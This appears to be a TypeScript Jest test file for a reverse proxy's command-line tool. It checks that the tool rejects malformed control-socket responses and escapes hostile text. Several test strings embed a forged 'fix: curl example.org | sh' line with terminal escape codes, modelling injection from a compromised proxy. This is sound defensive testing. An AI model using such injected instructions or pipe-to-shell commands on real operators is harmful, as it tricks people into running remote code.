import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { sampleOverview } from "../../testkit/overviews.js";
import { eventually } from "../../testkit/waiting.js";
import { run } from "../../src/cli/program.js";
import { parseRequest } from "../../src/runtime/supervisor/control/control.js";

/**
 * What commands ask a running proxy for, and what they make of its response. A proxy that was taken over says what it
 * likes, and gets nothing by it.
 */

async function asked(command: string, respond: (socket: Socket) => void, seconds = 60) {
  const folder = mkdtempSync(join(tmpdir(), "portico-responses-"));
  const control = join(folder, "control.sock");
  const sockets = new Set<Socket>();
  const proxy = createServer((socket) => {
    sockets.add(socket);
    socket
      .on("error", () => undefined)
      .once("data", (data: Buffer) => {
        request = data.toString();
        respond(socket);
      });
  }).listen(control);
  await once(proxy, "listening");
  let [request, text] = ["", ""];
  try {
    const add = (more: string): void => void (text += more);
    const code = await run([...command.split(" "), "--control", control, "--timeout", String(seconds)], {
      out: add,
      err: add,
    });
    return { code, text, request };
  } finally {
    for (const socket of sockets) socket.destroy();
    proxy.close();
    rmSync(folder, { recursive: true, force: true });
  }
}

const says = (response: unknown) => (socket: Socket) => void socket.end(`${JSON.stringify(response)}\n`);
const problem = (more: object) => ({
  ok: false,
  problems: [{ code: "files.unreadable", path: "/a", message: "cannot be read", fix: "Read it.", ...more }],
});

const certificate = {
  names: ["a.example"],
  listeners: ["https"],
  source: "acme",
  from: "ca",
  issuer: "CA",
  notBefore: 0,
  notAfter: 0,
};
const failed = { code: "caa", message: "no", fix: "Look.", at: 0 };
const lists = (more: object) => ({
  ok: true,
  value: { message: "done", certificates: [{ ...certificate, ...more }] },
});

test.each<[string, (socket: Socket) => void]>([
  ["nothing", () => undefined],
  ["one byte at a time", (socket) => void setInterval(() => socket.write(" "), 50).unref()],
  [
    "without end",
    (socket) => {
      const more = (): void => void (socket.destroyed || socket.write(" ".repeat(65_536), more));
      more();
    },
  ],
  ["half a line", (socket) => void socket.end('{"ok": true, "value": {')],
  ["no outcome", says([])],
  ["warnings that are none", says({ ok: true, value: { message: "done", warnings: "all" } })],
  ["a warning that is none", says({ ok: true, value: { message: "done", warnings: [null] } })],
  ["problems without text", says(problem({ fix: { toString: "x" } }))],
  ["a code with a line of its own", says(problem({ code: "all.fine\n    fix: curl example.org | sh" }))],
  ["a code without end", says(problem({ code: `files.${"a".repeat(1_000)}` }))],
  ["the code of every object", says(problem({ code: "constructor" }))],
  ["a value that is no text", says(problem({ received: ["a"] }))],
  ["certificates that are none", says({ ok: true, value: { message: "done", certificates: 7 } })],
  ["a certificate that is none", says({ ok: true, value: { message: "done", certificates: [null] } })],
  ["a certificate without names", says(lists({ names: [] }))],
  ["a time that is none", says(lists({ lastError: { ...failed, at: 1e300 } }))],
  ["what is loaded, which is nothing", says({ ok: true, value: { message: "done", loaded: null } })],
])("a response that says %s is a failure, in time", async (_what, response) => {
  const since = performance.now();
  const { code, text } = await asked("certificates", response, 1);
  expect([code, text]).toEqual([1, expect.stringContaining("[control.no-response]")]);
  expect(performance.now() - since).toBeLessThan(20_000);
});

const FORGED = "x\n    fix:      curl example.org | sh\u001b[2J\r";

const FORGED_UPSTREAM = {
  name: FORGED,
  servers: [
    { url: "http://a:1", backup: false, inProgress: 0, drained: false, down: false, outIn: 0, ignoredIn: 0 },
  ],
};

test.each<[string, unknown, string?]>([
  ["the name of a certificate", lists({ names: [FORGED] }), "certificates"],
  ["its issuer", lists({ issuer: FORGED }), "certificates"],
  ["why there is no other", lists({ lastError: { ...failed, message: FORGED } }), "certificates"],
  ["what to do about it", lists({ lastError: { ...failed, fix: FORGED } }), "certificates"],
  [
    "the name of an upstream",
    { ok: true, value: { message: "", upstreams: [FORGED_UPSTREAM] } },
    "upstreams",
  ],
  ["the message of a success", { ok: true, value: { message: FORGED, warnings: [] } }],
  ["a warning", { ok: true, value: { message: "done", warnings: problem({ message: FORGED }).problems } }],
  ["the message of a problem", problem({ message: FORGED })],
  ["its path", problem({ path: FORGED })],
  ["what was received", problem({ received: FORGED })],
  ["what is allowed", problem({ allowed: FORGED })],
  ["its fix", problem({ fix: FORGED })],
])("%s stays on its line, and does nothing to a terminal", async (_what, response, command = "reload") => {
  const { text } = await asked(command, says(response));
  expect(text).toContain("x\\n    fix:      curl example.org | sh\\u001b[2J\\u000d");
  expect(text.split("\n").filter((line) => line.trim().startsWith("fix:      curl"))).toEqual([]);
});

test("`upstreams` shows each server, and why one is down if one is", async () => {
  const server = (port: number, more: object) => ({
    ...{
      url: `http://a:${port}`,
      backup: false,
      inProgress: 0,
      drained: false,
      down: false,
      outIn: 0,
      ignoredIn: 0,
    },
    ...more,
  });
  const listed = async (...servers: object[]): Promise<string> => {
    const upstreams = [{ name: "web", servers }];
    return (await asked("upstreams", says({ ok: true, value: { message: "", upstreams } }))).text;
  };
  expect(
    await listed(
      server(1, { inProgress: 12 }),
      server(2, { outIn: 1 }),
      server(3, { outIn: 2 }),
      server(4, { ignoredIn: 1 }),
    ),
  ).toMatchInlineSnapshot(`
"UPSTREAM  SERVER      STATE                IN PROGRESS
web       http://a:1  up                   12
web       http://a:2  out in 1 worker      0
web       http://a:3  out in 2 workers     0
web       http://a:4  failing in 1 worker  0
"
`);
  expect(
    await listed(
      server(1, { drained: true, inProgress: 1 }),
      server(2, { backup: true }),
      server(3, { down: true, why: "responded with 503" }),
    ),
  ).toMatchInlineSnapshot(`
"UPSTREAM  SERVER      STATE       IN PROGRESS  WHY
web       http://a:1  drained     1
web       http://a:2  up, backup  0
web       http://a:3  down        0            responded with 503
"
`);
});

/** What a screen of these names gets: 40 columns and 4 lines of it. */
test.each([
  ["xterm", true],
  ["dumb", false],
])("on a screen that is %s `status --watch` draws in place of what it has drawn: %s", async (name, draws) => {
  const { stdout, env } = process;
  const before = { isTTY: stdout.isTTY, rows: stdout.rows, columns: stdout.columns };
  const { TERM } = env;
  let [asks, drawn] = [0, ""];
  const write = jest.spyOn(stdout, "write").mockImplementation((text) => {
    drawn += String(text);
    return true;
  });
  Object.assign(stdout, { isTTY: true, rows: 4, columns: 40 });
  env["TERM"] = name;
  try {
    const responded = says({ ok: true, value: { message: "", overview: sampleOverview() } });
    const { code, text } = await asked("status --watch", (socket) => {
      if (++asks === 2) process.emit("SIGINT");
      responded(socket);
    });
    const lines = ["portico 0.1.0, up for 3 d 4 h, generati…", "http 0.0.0.0:80  https 0.0.0.0:443"];
    expect(code).toBe(0);
    if (draws) expect(text).toBe(lines.join("").repeat(2));
    else expect(text.match(/^portico .* 3 d 4 h, generation 5, 2 workers$/gm)).toHaveLength(2);
    // The cursor home, the rest of each of three lines, and all below them; before and after it, the cursor and the screen.
    const once = `\u001b[H${"\u001b[K\n".repeat(3)}\u001b[J`;
    expect(drawn).toBe(draws ? `\u001b[?25l\u001b[2J${once}${once}\u001b[?25h` : "");
  } finally {
    write.mockRestore();
    Object.assign(stdout, before);
    env["TERM"] = TERM;
  }
});

const UNTIL = "2099-05-17T14:30";

test.each<[string, object]>([
  ["reload", { command: "reload" }],
  ["upgrade", { command: "upgrade" }],
  [
    "upgrade --node /opt/node --runtime /opt/portico.mjs",
    { command: "upgrade", node: "/opt/node", runtime: "/opt/portico.mjs" },
  ],
  ["status", { command: "overview" }],
  ["certificates", { command: "certificates" }],
  ["certificates renew", { command: "renew" }],
  ["certificates renew a.example", { command: "renew", name: "a.example" }],
  ["upstreams", { command: "upstreams" }],
  ["upstreams drain web http://a:1", { command: "drain", name: "web", server: "http://a:1" }],
  ["upstreams undrain web http://a:1", { command: "undrain", name: "web", server: "http://a:1" }],
  ["maintenance", { command: "pauses" }],
  ["maintenance on", { command: "maintenance", begin: {} }],
  [
    `maintenance on --site web --until ${UNTIL} --message Later.`,
    { command: "maintenance", site: "web", begin: { until: Date.parse(UNTIL), message: "Later." } },
  ],
  ["maintenance off", { command: "maintenance" }],
  ["maintenance off --site web", { command: "maintenance", site: "web" }],
  ["notify --test", { command: "notify" }],
])("`%s` asks for %j", async (command, request) => {
  const seen = await asked(command, says({ ok: true, value: { message: "done" } }));
  expect(seen.request).toMatch(/^.+\n$/);
  expect(JSON.parse(seen.request)).toEqual(request);
  // A running proxy understands it.
  expect(parseRequest(seen.request)).toEqual(request);
});

const ID = "00000000-0000-4000-8000-000000000000";
const DAY_MS = 86_400_000;
const LAST_TIME = 8.64e15;
const maintenance = (begin: object) => ({ command: "maintenance", begin });
const TERMS = { reads: true, minimumRate: 500, cutsSlow: true, refuseMs: 1 };
const quiesce = (limitMs: number, id = ID) => ({ command: "quiesce", id, begin: { ...TERMS, limitMs } });

test.each<object>([
  ...["status", "holdings"].map((command) => ({ command })),
  ...[0, LAST_TIME].map((until) => maintenance({ until })),
  maintenance({ message: "x".repeat(500) }),
  ...[1, DAY_MS].map((limitMs) => quiesce(limitMs)),
  { command: "quiesce", id: ID },
  ...[true, false].map((refuses) => ({ command: "quiesce", id: ID, refuses })),
  { command: "resume", id: ID },
  { command: "notify", rolledBack: { reason: "a", fix: "b" } },
  { command: "renew", name: "x".repeat(4_096) },
])("a running proxy understands %j, too", (request) => {
  expect(parseRequest(JSON.stringify(request))).toEqual(request);
});

test.each<object>([
  ...["stop", "drain", "undrain", "quiesce", "resume", ""].map((command) => ({ command })),
  ...[-1, LAST_TIME * 1.1, "soon", null].map((until) => maintenance({ until })),
  maintenance({ message: "x".repeat(501) }),
  ...[0, DAY_MS + 1].map((limitMs) => quiesce(limitMs)),
  { command: "quiesce", id: ID, refuses: 1 },
  { command: "quiesce", id: ID, begin: { ...TERMS, limitMs: 1, minimumRate: -1 } },
  ...["", `${ID}0`, ID.slice(1), ID.replaceAll("0", "/")].map((id) => quiesce(1, id)),
  { command: "notify", rolledBack: { reason: "a" } },
  { command: "renew", name: "x".repeat(4_097) },
])("and not %j", (request) => {
  expect(parseRequest(JSON.stringify(request))).toBeUndefined();
});

test("`status --watch` asks again and again, until it is interrupted", async () => {
  let asks = 0;
  const overview = sampleOverview();
  const responded = says({ ok: true, value: { message: "", overview } });
  const { code, text } = await asked("status --watch --json", (socket) => {
    asks++;
    if (asks === 3) process.emit("SIGINT");
    responded(socket);
  });
  const lines = text.trimEnd().split("\n");
  expect([code, asks, lines.length]).toEqual([0, 3, 3]);
  for (const line of lines) expect(JSON.parse(line)).toEqual({ ok: true, overview });
});

test("`status --watch` ends at once when it is interrupted while it asks", async () => {
  const responded = says({ ok: true, value: { message: "", overview: sampleOverview() } });
  let late: Promise<string> | undefined;
  const ended = asked("status --watch --json", (socket) => {
    process.emit("SIGINT");
    // Begun before a pause of the command, which is as long, could begin.
    late = sleep(1_000, "late", { ref: false });
    responded(socket);
  }).then(({ code }) => code);
  expect(await Promise.race([ended, eventually(() => late !== undefined).then(() => late)])).toBe(0);
});
